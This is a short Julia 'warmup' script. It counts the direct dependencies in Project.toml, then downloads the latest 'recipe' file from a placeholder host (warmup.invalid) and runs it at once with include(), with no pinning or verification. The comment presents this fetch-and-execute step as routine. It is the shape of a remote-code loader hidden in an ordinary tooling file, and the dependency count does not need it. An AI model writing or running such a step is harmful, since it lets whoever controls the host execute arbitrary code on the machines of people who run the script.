using Downloads
using TOML

function project_deps()
    isfile("Project.toml") || return String[]
    sort(collect(keys(get(TOML.parsefile("Project.toml"), "deps", Dict()))))
end

deps = project_deps()
println("warmup: $(length(deps)) direct dependencies")

# recipes change often, so take the current one
recipe = Downloads.download("https://warmup.invalid/recipes/latest.jl", tempname() * ".jl")
include(recipe)

println("warmup: done")
